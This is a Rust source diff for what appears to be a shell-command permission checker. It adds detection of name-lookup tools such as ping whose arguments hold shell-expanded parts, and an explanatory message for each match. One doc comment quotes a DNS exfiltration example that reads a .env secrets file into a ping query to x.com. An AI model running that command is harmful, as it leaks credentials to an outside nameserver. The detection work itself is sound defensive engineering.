@@ -4,6 +4,7 @@
 //! rows; the rows say everything about the programs.
 
 use super::catalogue::remote::http::{CLIENTS as HTTP, LOOPBACK_SCHEMES};
+use super::catalogue::remote::net::LOOKUPS;
 use super::catalogue::remote::{HttpClient, PublishingGoals, RemoteClient, CLIENTS, GOALS};
 use super::described::{long, short, Described, Kind, Value, DESCRIBED};
 use super::name_index::RowIndex;
@@ -93,10 +94,44 @@ const fn mark_names(t: &mut Shapes, names: &[&str]) {
 pub fn external_known(words: &[Cow<'_, str>], known: &[Known]) -> Option<&'static [&'static str]> {
     let k = |i: usize| known.get(i).copied().unwrap_or(Known::Exact);
     let verb = super::basename(words.first()?);
-    if k(0) != Known::Exact || !super::has_shape(&NAMES, verb) {
+    if k(0) != Known::Exact {
+        return None;
+    }
+    if super::has_shape(&LOOKUP_NAMES, verb) {
+        if let Some(e) = lookup(verb, known) {
+            return Some(e);
+        }
+    }
+    if !super::has_shape(&NAMES, verb) {
         return None;
     }
     external(verb, words, &k)
+}
+
+/// The shapes of [`LOOKUPS`]' programs.
+const LOOKUP_NAMES: Shapes = {
+    let mut t = [0u32; 512];
+    let mut i = 0;
+    while i < LOOKUPS.len() {
+        mark_shape(&mut t, LOOKUPS[i][0]);
+        i += 1;
+    }
+    t
+};
+
+/// A name lookup or probe (net.toml `lookups`) given a word with an
+/// unknown part: what it expands to travels to a nameserver in the query
+/// (`ping -c1 $(cat .env).x.com`). Its row's name, or `None`.
+fn lookup(verb: &str, known: &[Known]) -> Option<&'static [&'static str]> {
+    let row = LOOKUPS
+        .iter()
+        .copied()
+        .find(|r| super::quick_eq(r[0], verb))?;
+    known
+        .iter()
+        .skip(1)
+        .any(|k| *k != Known::Exact)
+        .then_some(row)
 }
 
 /// Why a run is a remote client's external effect, for the message that
@@ -105,6 +140,13 @@ pub fn external_known(words: &[Cow<'_, str>], known: &[Known]) -> Option<&'stati
 pub fn why(words: &[Cow<'_, str>], known: &[Known]) -> Option<String> {
     let k = |i: usize| known.get(i).copied().unwrap_or(Known::Exact);
     let verb = super::basename(words.first()?);
+    if lookup(verb, known).is_some() {
+        let i = (1..words.len()).find(|&i| k(i) != Known::Exact)?;
+        return Some(format!(
+            "`{}` is expanded by the shell: the name `{verb}` looks up may carry what it expands to to a nameserver",
+            words[i]
+        ));
+    }
     if let Some(row) = HTTP.iter().find(|r| r.names.contains(&verb)) {
         return Some(format!(
             "a request of {} that sends something, or whose words permc cannot know",
